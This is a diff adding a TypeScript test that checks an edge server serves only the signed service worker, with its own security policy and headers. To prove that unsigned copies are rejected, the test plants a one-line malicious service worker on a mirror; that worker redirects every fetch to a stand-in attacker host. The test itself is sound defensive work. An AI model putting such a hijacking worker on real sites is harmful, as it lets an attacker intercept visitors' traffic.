@@ -6,6 +6,7 @@ import { createLimitedFetch } from '../../src/adapters/web/limited-fetch.ts';
 import { createMemoryEdgeState } from '../../src/adapters/edge-state/memory-edge-state.ts';
 import { createEdge, type EdgeEvent } from '../../src/edge/app.ts';
 import { CONTENT_SECURITY_POLICY } from '../../src/edge/content-headers.ts';
+import { WORKER_CSP } from '../../src/core/render-html.ts';
 import type { EdgeStateStore } from '../../src/ports/edge-state.ts';
 import { refusedUrl, startMirrorServer, type Fault, type MirrorServer } from '../helpers/fault-mirrors.ts';
 import { makeSignedSnapshot, sampleFiles, testKeyPair } from '../helpers/signed-snapshot.ts';
@@ -255,6 +256,23 @@ describe('edge: versions, stale copies and state', () => {
 });
 
 describe('edge: responses', () => {
+  it('serves the readers’ service worker with its own policy (it may fetch, and run no other code), CORS, and no-cache', async () => {
+    const withWorker = snapshot(2, { '/sw.js': 'const FERRY_PUBLIC_KEY="";self.addEventListener("fetch",()=>{});' });
+    const { edge } = edgeOver([await serve(withWorker)]);
+    const res = await edge.app.request('/sw.js');
+    expect(res.status).toBe(200);
+    expect(await res.text()).toBe(text('/sw.js', withWorker));
+    expect(res.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
+    expect(res.headers.get('content-security-policy')).toBe(WORKER_CSP);
+    expect(res.headers.get('cache-control')).toBe('no-cache');
+    expect(res.headers.get('access-control-allow-origin')).toBe('*');
+    // Served only as signed: a mirror with another sw.js is not believed.
+    const planted = new Map(withWorker);
+    planted.set('/sw.js', new TextEncoder().encode('self.addEventListener("fetch",e=>e.respondWith(fetch("https://evil.example/")));'));
+    const { edge: other } = edgeOver([await serve(planted), await serve(withWorker)]);
+    expect(await (await other.app.request('/sw.js')).text()).toBe(text('/sw.js', withWorker));
+  });
+
   it('sets ETag, 304, cache policy, security headers, canonical and onion links, compression', async () => {
     const { edge } = edgeOver([await serve(v2)]);
     const res = await edge.app.request('/2016/06/');
